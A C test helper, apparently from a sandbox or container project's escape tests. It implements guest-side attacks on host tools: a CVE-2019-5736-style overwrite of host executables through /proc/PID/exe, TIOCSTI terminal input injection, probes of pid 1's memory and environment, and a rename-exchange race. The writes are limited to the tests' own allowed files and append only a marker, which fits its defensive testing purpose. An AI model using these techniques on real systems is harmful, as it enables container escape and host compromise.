/* vsattack: the guest side of the escape tests of tests/integration/guest_escape_*_test.cc
 * (issue 18): attacks a hostile guest root makes on the host's tools, run inside a guest
 * (or inside the deliberately weak setups those tests compare against).
 *
 * Usage:
 *   vsattack hunt [-d] [-i] SECONDS LOG ALLOW
 *       CVE-2019-5736: watches /proc for processes whose executable is not a file of this
 *       root (a host binary re-executed inside through `#!/proc/self/exe`, or a memfd),
 *       keeps an O_PATH fd of each one, and once nothing executes it any more reopens it for
 *       writing and appends a marker. Only files whose "DEV.INO" (st_dev.st_ino, decimal)
 *       is in ALLOW (comma separated; "-" for none) are ever opened for writing: the tests
 *       pass the ids of their own copies of the tools, so the probe cannot damage anything
 *       else even when it runs unconfined. Every finding is one line appended to LOG:
 *         FOUND pid=P id=DEV.INO exe=PATH     a foreign executable, fd kept
 *         READ id=DEV.INO bytes=N             its content could be read
 *         DENIED pid=P errno=E exe=PATH       /proc/P/exe could not be opened (once a pid)
 *         BUSY id=DEV.INO errno=E             first refused reopen for writing
 *         WROTE id=DEV.INO                    the marker was appended: the attack worked
 *         END found=N wrote=N
 *       -d: daemon (fork, setsid, stdio to /dev/null; the parent exits once LOG exists).
 *       -i: as a guest's own init (pid 1): ends on SIGTERM, SIGINT or SIGPWR, reaps orphans,
 *           and stays after the hunt until then.
 *   vsattack pid1
 *       What a guest sees of its pid 1: lines "PID1 exe-link=...", "PID1 exe-open=ok|EXXX",
 *       "PID1 mem-open=ok|EXXX", "PID1 environ-open=ok|EXXX", "PID1 cmdline=..." (NULs as
 *       spaces).
 *   vsattack tiocsti FD TEXT
 *       Pushes TEXT and a newline into the input of the terminal on FD (TIOCSTI); prints
 *       "TIOCSTI ok" or "TIOCSTI errno=EXXX" (first failure).
 *   vsattack flip A B SECONDS
 *       Swaps A and B (renameat2 RENAME_EXCHANGE) in a loop for SECONDS: a running clone
 *       source flipping a directory and a symlink.
 *
 * Exit status: 0 done (whatever the attack's outcome: the tests judge by host state and the
 * log), 2 usage error. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_IDS 256
#define MAX_PIDS 4096
#define MARKER "\nVSATTACK-OVERWRITE\n"

struct id {
	unsigned long long dev, ino;
};

static const char *ename(int e)
{
	const char *s = strerrorname_np(e);
	return s ? s : "E?";
}

static const char *log_path;

__attribute__((format(printf, 1, 2))) static void logf_(const char *fmt, ...)
{
	char line[1024];
	va_list ap;
	va_start(ap, fmt);
	int n = vsnprintf(line, sizeof line - 1, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if ((size_t)n > sizeof line - 2)
		n = sizeof line - 2;
	line[n++] = '\n';
	int fd = open(log_path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
	if (fd < 0)
		return;
	(void)!write(fd, line, (size_t)n);
	close(fd);
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int has(const struct id *set, int n, struct id x)
{
	for (int i = 0; i < n; i++)
		if (set[i].dev == x.dev && set[i].ino == x.ino)
			return 1;
	return 0;
}

static int parse_ids(const char *s, struct id *out)
{
	int n = 0;
	if (strcmp(s, "-") == 0)
		return 0;
	while (*s && n < MAX_IDS) {
		char *end;
		out[n].dev = strtoull(s, &end, 10);
		if (*end != '.')
			return -1;
		out[n].ino = strtoull(end + 1, &end, 10);
		n++;
		if (*end == ',')
			end++;
		else if (*end)
			return -1;
		s = end;
	}
	return n;
}

static volatile sig_atomic_t stop_requested;
static void on_stop(int sig)
{
	(void)sig;
	stop_requested = 1;
}

struct found {
	struct id id;
	int fd;       /* O_PATH */
	int allowed;  /* in ALLOW: may be opened for writing */
	int wrote, busy_logged;
};

static int hunt(int seconds, const char *allow_text, int as_init)
{
	struct id allow[MAX_IDS], own[MAX_IDS];
	int nallow = parse_ids(allow_text, allow), nown = 0;
	if (nallow < 0) {
		fprintf(stderr, "vsattack: bad ALLOW list %s\n", allow_text);
		return 2;
	}
	struct found found[MAX_IDS];
	int nfound = 0, wrote = 0;
	static unsigned char denied_logged[MAX_PIDS];
	const pid_t self = getpid();
	const double deadline = now() + seconds;
	logf_("START pid=%d", (int)self);
	while (now() < deadline && !stop_requested) {
		DIR *d = opendir("/proc");
		if (!d) {
			logf_("ERROR opendir(/proc) errno=%s", ename(errno));
			sleep(1);
			continue;
		}
		struct dirent *e;
		while ((e = readdir(d)) != NULL) {
			char *end;
			long pid = strtol(e->d_name, &end, 10);
			if (*end || pid <= 0 || pid == self)
				continue;
			char path[64], link[512];
			snprintf(path, sizeof path, "/proc/%ld/exe", pid);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0) {
				int err = errno;
				if (err != ENOENT && pid < MAX_PIDS && !denied_logged[pid]) {
					ssize_t n = readlink(path, link, sizeof link - 1);
					link[n > 0 ? n : 0] = 0;
					logf_("DENIED pid=%ld errno=%s exe=%s", pid, ename(err), link);
					denied_logged[pid] = 1;
				}
				continue;
			}
			struct stat st;
			if (fstat(fd, &st) < 0) {
				close(fd);
				continue;
			}
			struct id x = {(unsigned long long)st.st_dev, (unsigned long long)st.st_ino};
			int known = has(own, nown, x);
			for (int i = 0; i < nfound && !known; i++)
				known = found[i].id.dev == x.dev && found[i].id.ino == x.ino;
			if (known) {
				close(fd);
				continue;
			}
			ssize_t n = readlink(path, link, sizeof link - 1);
			link[n > 0 ? n : 0] = 0;
			/* A file of this root: the same inode under the path the link names. */
			struct stat mine;
			if (link[0] == '/' && stat(link, &mine) == 0 && mine.st_dev == st.st_dev &&
			    mine.st_ino == st.st_ino) {
				if (nown < MAX_IDS)
					own[nown++] = x;
				close(fd);
				continue;
			}
			if (nfound == MAX_IDS) {
				close(fd);
				continue;
			}
			found[nfound] = (struct found){x, fd, has(allow, nallow, x), 0, 0};
			logf_("FOUND pid=%ld id=%llu.%llu exe=%s", pid, x.dev, x.ino, link);
			char self_fd[64], buf[4096];
			snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", fd);
			int rd = open(self_fd, O_RDONLY | O_CLOEXEC);
			if (rd >= 0) {
				ssize_t got = read(rd, buf, sizeof buf);
				logf_("READ id=%llu.%llu bytes=%zd", x.dev, x.ino, got);
				close(rd);
			} else {
				logf_("NOREAD id=%llu.%llu errno=%s", x.dev, x.ino, ename(errno));
			}
			nfound++;
		}
		closedir(d);
		/* Reopen what was found for writing once nothing executes it (ETXTBSY before). */
		for (int i = 0; i < nfound; i++) {
			struct found *f = &found[i];
			if (!f->allowed || f->wrote)
				continue;
			char self_fd[64];
			snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", f->fd);
			int wr = open(self_fd, O_WRONLY | O_APPEND | O_CLOEXEC);
			if (wr < 0) {
				if (!f->busy_logged) {
					logf_("BUSY id=%llu.%llu errno=%s", f->id.dev, f->id.ino,
					      ename(errno));
					f->busy_logged = 1;
				}
				continue;
			}
			ssize_t w = write(wr, MARKER, sizeof MARKER - 1);
			close(wr);
			if (w == (ssize_t)(sizeof MARKER - 1)) {
				f->wrote = 1;
				wrote++;
				logf_("WROTE id=%llu.%llu", f->id.dev, f->id.ino);
			} else {
				logf_("NOWRITE id=%llu.%llu errno=%s", f->id.dev, f->id.ino,
				      ename(errno));
				f->wrote = 1;
			}
		}
		if (nallow > 0 && wrote == nallow)
			break;
		struct timespec ts = {0, 200 * 1000};
		nanosleep(&ts, NULL);
	}
	logf_("END found=%d wrote=%d", nfound, wrote);
	if (as_init) {
		while (!stop_requested)
			pause();
	}
	return 0;
}

static int cmd_hunt(int argc, char **argv)
{
	int daemon = 0, as_init = 0, i = 0;
	for (; i < argc && argv[i][0] == '-' && argv[i][1]; i++) {
		if (strcmp(argv[i], "-d") == 0)
			daemon = 1;
		else if (strcmp(argv[i], "-i") == 0)
			as_init = 1;
		else
			return 2;
	}
	if (argc - i != 3)
		return 2;
	int seconds = atoi(argv[i]);
	log_path = argv[i + 1];
	const char *allow = argv[i + 2];
	if (as_init) {
		struct sigaction sa = {0};
		sa.sa_handler = on_stop;
		sigaction(SIGTERM, &sa, NULL);
		sigaction(SIGINT, &sa, NULL);
		sigaction(SIGPWR, &sa, NULL);
		signal(SIGCHLD, SIG_IGN); /* orphans reaped by the kernel */
	}
	if (daemon) {
		unlink(log_path);
		pid_t pid = fork();
		if (pid < 0)
			return 1;
		if (pid > 0) {
			for (int n = 0; n < 5000 && access(log_path, F_OK) != 0; n++)
				usleep(1000);
			return 0;
		}
		setsid();
		int null = open("/dev/null", O_RDWR | O_CLOEXEC);
		for (int fd = 0; fd < 3; fd++)
			dup2(null, fd);
	}
	return hunt(seconds, allow, as_init);
}

static void print_open(const char *what, const char *path, int flags)
{
	int fd = open(path, flags | O_CLOEXEC);
	if (fd >= 0) {
		printf("PID1 %s=ok\n", what);
		close(fd);
	} else {
		printf("PID1 %s=%s\n", what, ename(errno));
	}
}

static int cmd_pid1(void)
{
	char link[512];
	ssize_t n = readlink("/proc/1/exe", link, sizeof link - 1);
	if (n < 0)
		printf("PID1 exe-link=%s\n", ename(errno));
	else
		printf("PID1 exe-link=%.*s\n", (int)n, link);
	print_open("exe-open", "/proc/1/exe", O_RDONLY);
	print_open("exe-path", "/proc/1/exe", O_PATH);
	print_open("mem-open", "/proc/1/mem", O_RDONLY);
	print_open("environ-open", "/proc/1/environ", O_RDONLY);
	char buf[4096];
	int fd = open("/proc/1/cmdline", O_RDONLY | O_CLOEXEC);
	n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
	if (fd >= 0)
		close(fd);
	if (n < 0)
		n = 0;
	for (ssize_t i = 0; i < n; i++)
		if (buf[i] == 0)
			buf[i] = ' ';
	buf[n] = 0;
	printf("PID1 cmdline=%s\n", buf);
	return 0;
}

static int cmd_tiocsti(int fd, const char *text)
{
	char nl = '\n';
	for (const char *p = text;; p++) {
		if (ioctl(fd, TIOCSTI, *p ? p : &nl) < 0) {
			printf("TIOCSTI errno=%s\n", ename(errno));
			return 0;
		}
		if (!*p)
			break;
	}
	printf("TIOCSTI ok\n");
	return 0;
}

static int cmd_flip(const char *a, const char *b, int seconds)
{
	const double deadline = now() + seconds;
	long flips = 0, errors = 0;
	while (now() < deadline) {
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0)
			flips++;
		else
			errors++;
	}
	printf("FLIP flips=%ld errors=%ld\n", flips, errors);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 2 && strcmp(argv[1], "hunt") == 0) {
		int rc = cmd_hunt(argc - 2, argv + 2);
		if (rc == 2)
			fprintf(stderr, "usage: vsattack hunt [-d] [-i] SECONDS LOG ALLOW\n");
		return rc;
	}
	if (argc == 2 && strcmp(argv[1], "pid1") == 0)
		return cmd_pid1();
	if (argc == 4 && strcmp(argv[1], "tiocsti") == 0)
		return cmd_tiocsti(atoi(argv[2]), argv[3]);
	if (argc == 5 && strcmp(argv[1], "flip") == 0)
		return cmd_flip(argv[2], argv[3], atoi(argv[4]));
	fprintf(stderr, "usage: vsattack hunt|pid1|tiocsti|flip ... (see the source)\n");
	return 2;
}
